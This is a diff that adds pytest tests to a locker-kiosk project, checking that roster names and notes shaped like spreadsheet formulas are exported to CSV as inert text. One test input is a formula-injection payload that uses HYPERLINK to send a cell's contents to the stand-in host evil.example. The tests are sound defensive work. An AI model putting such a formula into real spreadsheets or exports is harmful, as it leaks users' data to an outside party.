@@ -327,3 +327,39 @@ def test_another_stations_change_is_seen_through_the_audit_log(tmp_path: Path) -
     other = LockerDesk(open_store(f"sqlite:///{tmp_path / 'k.db'}"))
     other.assign("CS2021001", STAFF)
     assert desk.changed_since(marker) > marker
+
+
+def test_a_roster_name_that_looks_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
+    """CSV injection: a roster row named =HYPERLINK(...) must not become a formula in a spreadsheet."""
+    import csv
+    import io
+
+    from kiosk.core.lockers import preview_roster
+    from kiosk.store.lockers import HistoryFilter
+
+    desk, clock = clocked_desk(tmp_path / "k.db")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    roster = f"enrollment,name,programme\nCS2021099,{json_quote(evil)},@SUM(1+1)\n"
+    assert desk.import_roster(preview_roster(roster, desk.enrollments()), ADMIN) == 1
+    desk.assign("CS2021099", STAFF)
+    clock.now += 60
+    desk.force_exit(desk.history(1)[0].locker, "-2+3 lost key", ADMIN)
+    out = io.StringIO()
+    desk.export_history(HistoryFilter(), out, lambda _n: True)
+    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
+    cells = dict(zip(header, row))
+    assert cells["name"] == "'" + evil  # shown as text, the quote hidden
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    assert cells["duration_min"] == "1"  # numbers stay numbers
+
+
+def json_quote(text: str) -> str:
+    return '"' + text.replace('"', '""') + '"'
+
+
+def test_every_formula_start_is_guarded() -> None:
+    from kiosk.protocol.spreadsheet import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1+1") == "'" + start + "1+1"
+    assert safe_cell("Neha Rao") == "Neha Rao" and safe_cell(-3.5) == -3.5 and safe_cell(None) is None
